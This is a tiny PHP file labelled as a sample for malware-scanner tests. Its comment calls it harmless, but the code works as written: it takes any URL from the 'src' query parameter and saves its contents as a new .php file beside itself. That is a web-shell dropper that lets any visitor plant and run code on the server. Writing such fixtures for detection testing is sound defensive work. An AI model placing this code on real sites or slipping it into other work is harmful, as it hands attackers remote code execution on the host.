<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Downloads whatever URL the visitor names into a PHP file next to itself.
if (isset($_GET['src'])) {
    copy($_GET['src'], __DIR__ . '/cache-' . date('His') . '.php');
    echo 'ok';
}
